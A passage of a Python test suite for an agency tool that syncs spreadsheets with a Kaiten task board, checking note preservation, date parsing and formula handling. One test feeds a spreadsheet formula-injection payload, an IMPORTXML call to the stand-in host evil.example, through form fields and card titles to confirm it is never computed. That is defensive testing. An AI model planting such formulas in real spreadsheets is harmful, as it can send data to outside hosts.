        {"type": "type", "sheet": "Бэклог", "cell": f"D{first + 1}", "text": f"=LEN({task})*2"},
        {"type": "note", "sheet": "Бэклог", "cell": task, "text": "Спросить у Ольги"},
    )

    assert_answer(client.do("estimate"), "partial", 200)
    tab = client.book().tab("backlog")
    assert tab.cell(tab.rows[1], "hours.copy").formula == "=1+1"
    preview_id = client.do("build_batch", period="current")["data"]["preview_id"]
    assert_answer(client.do("start_batch", preview_id=preview_id), "done", 200)
    progress = client.book().tab("in_progress")
    row = progress.rows[0]
    client.edit({"type": "insert_columns", "sheet": progress.title, "at": "B", "count": 1})
    client.edit(
        {"type": "type", "sheet": progress.title, "cell": f"B{row.index + 1}", "text": "=2+3"},
        {"type": "note", "sheet": progress.title, "cell": f"B{row.index + 1}", "text": "наша"},
    )
    client.type("in_progress", row.index, approval="Вернули", remark="Логотип крупнее")
    for action in ("push", "refresh"):
        assert_answer(client.do(action), "done", 200)

    backlog = [cell for _, cell in contents(client, "backlog")]
    assert {"userEnteredValue": {"stringValue": "Наша пометка"}} in backlog
    assert {"userEnteredValue": {"stringValue": "Неясная"}, "note": "Спросить у Ольги"} in backlog
    in_progress = [cell for _, cell in contents(client, "in_progress")]
    assert {"userEnteredValue": {"formulaValue": "=2+3"}, "note": "наша"} in in_progress
    assert client.table("in_progress", "approval", "remark")[0] == ("Вернули", "Логотип крупнее")


def test_text_from_outside_stays_text(client: ModuleOffice) -> None:
    """A task, a name and a card's title that look like formulas are never computed."""
    evil = '=IMPORTXML("http://evil.example";"//a")'
    form = {"client_name": evil, "project_name": "=1+1", "code": next(_codes)}
    answer = client.click(agency_id(client), "new_client", limit_hours=None, **form)
    assert answer["outcome"] == "done"
    client.client_id = answer["data"]["spreadsheet_id"]
    client.paste_backlog(
        [
            {"task": evil, "result": "=A1", "hours.design": 2.0},
            {"task": "+7 (495) 000", "work_type": "=Б"},
        ]
    )

    client.do("estimate")
    preview_id = client.do("build_batch", period="current")["data"]["preview_id"]
    assert_answer(client.do("start_batch", preview_id=preview_id), "done", 200)
    assert_answer(client.do("push"), "done", 200)
    board_id = board_number(load_project(client.services.store, client.client_id).board_id)
    [card] = [card for card in client.cards() if str(card["board_id"]) == board_id]
    assert card["title"].endswith(evil)
    client.kaiten("PATCH", f"/cards/{card['id']}", title=evil)
    client.settle()
    assert_answer(client.do("refresh"), "done", 200)

    for tab_key in client.book().tabs:
        for place, cell in contents(client, tab_key):
            assert "IMPORTXML" not in cell.get("userEnteredValue", {}).get("formulaValue", ""), (
                tab_key,
                place,
            )
    assert client.table("in_progress", "action") == [(evil,)]
    field = client.book().field("client_name").cell
    assert (field.value, field.formula) == (evil, None)
    for tab_key in client.book(agency_id(client)).tabs:
        book = client.book(agency_id(client))
        formulas = [cell.formula or "" for row in book.tab(tab_key).rows for cell in row.cells]
        assert not any("IMPORTXML" in formula for formula in formulas)


def test_days_of_the_russian_locale_are_days(client: ModuleOffice) -> None:
    """The wanted date may be typed or pasted as a text; both are understood."""
    client.fill_backlog(
        {"task": "Набрана", "hours_design": "1", "wanted_on": "25.11.2026"},
        {"task": "Вставлена", "hours_design": "1"},
    )
    first = client.book().tab("backlog").header_index + 1
    write(client, "backlog", first + 1, "wanted_on", {"stringValue": "25.11"})

    assert_answer(client.do("estimate"), "done", 200)

    assert client.table("backlog", "wanted_on") == [
        (float(serial_of_day(date(2026, 11, 25))),),
        ("25.11",),
    ]
